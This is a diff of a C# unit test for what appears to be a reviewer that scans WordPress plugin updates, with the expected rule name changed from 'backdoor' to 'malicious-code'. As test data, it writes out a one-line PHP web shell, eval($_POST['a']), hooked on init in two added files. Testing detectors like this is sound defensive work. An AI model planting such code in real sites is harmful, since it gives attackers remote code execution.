@@ -58,7 +58,7 @@ public sealed class FormTests
         var (old, @new) = (Akismet.Installed(), Misdeeds.All(Akismet.Update()).Add("copy/one.php", "<?php add_action( 'init', function () { eval( $_POST['a'] ); } );").Add("copy/two.php", "<?php add_action( 'init', function () { eval( $_POST['a'] ); } );"));
         var shared = Reviewer.Compare(old.Read(trees), @new.Read(trees), Small.Options);
         Assert.Equal(Json(Akismet.Review(old, @new)), Json(shared));
-        Assert.All((string[])["copy/one.php", "copy/two.php"], path => Assert.Contains(shared.Concerns, c => c.Rule == "backdoor" && c.New!.Path == path));
+        Assert.All((string[])["copy/one.php", "copy/two.php"], path => Assert.Contains(shared.Concerns, c => c.Rule == "malicious-code" && c.New!.Path == path));
     }
 
     [Fact]
